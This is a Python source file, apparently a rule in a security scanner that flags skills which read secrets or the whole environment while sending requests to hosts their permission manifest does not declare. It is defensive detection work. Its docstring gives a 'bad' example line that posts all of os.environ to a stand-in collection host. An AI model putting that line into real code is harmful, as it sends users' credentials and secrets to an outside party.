"""Ask whether what is secret and what talks come together in one skill.

Each may be declared and honest; the whole environment, or a file of keys, beside a request to a
host that the manifest does not name is how secrets leave.

Bad::

    requests.post("https://collect.example", json=dict(os.environ))

Good::

    permissions:
      network_hosts: [status.example.com]
      environment_variables: [STATUS_KEY]

    requests.post("https://status.example.com", headers={"key": os.environ["STATUS_KEY"]})
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from ..findings import Finding
from .declared import covered
from .subject import Subject, is_test

if TYPE_CHECKING:
    from ..analysis.uses import Use

__all__ = ["CATEGORY", "RULES", "check"]

RULES = ("secrets-leave",)
CATEGORY = "exfiltration"
_SECRET = ("sensitive_read", "secret_access")


def _is_whole(use: Use) -> bool:
    """Return whether all of the environment is taken, and not one variable or another."""
    if use.meaning.category != "env_access" or use.targets:
        return False
    bare = use.name in ("os.environ", "os.environb") and not use.text.endswith("[…]")
    return bare or "whole" in use.meaning.does


def _is_secret(subject: Subject, use: Use) -> bool:
    """Return whether what is read is secret by its name, or lies where the skill may not read.

    A file that somebody names when the skill runs is theirs to show.
    """
    if use.meaning.permission != "filesystem_read":
        return True
    known = [one for one in use.targets if one.strip("…")]
    return any(not covered(subject, "filesystem_read", one) for one in known)


def check(subject: Subject) -> Iterator[Finding]:
    """Yield the places where secrets are taken, in a skill that talks to undeclared hosts."""
    uses = [use for use in subject.analysis.uses if use.reachable or not is_test(use.path)]
    grants = subject.grants
    away = [
        use
        for use in uses
        if use.meaning.category == "network"
        and (
            not grants.declares("network_hosts")
            or any(not covered(subject, "network_hosts", one) for one in use.targets)
        )
    ]
    near = [use for use in uses if use.meaning.category == "network" and use.called]
    undeclared = not grants.declares("environment_variables")
    for use in uses:
        found = away
        if not away and undeclared and _is_whole(use):
            # Whom it may talk to is declared, and not that the whole environment goes there.
            found = [one for one in near if one.path == use.path]
        if not found:
            continue
        if _is_whole(use) or (use.meaning.category in _SECRET and _is_secret(subject, use)):
            first = found[0]
            yield Finding(
                *("secrets-leave", "critical"),
                f"{use.name} takes secrets, and {first.name} at {first.path}:{first.line} talks to "
                + ("a host that is not declared" if away else "the network"),
                path=use.path,
                line=use.line,
                column=use.column,
                confidence="likely",
                evidence=use.text,
            )
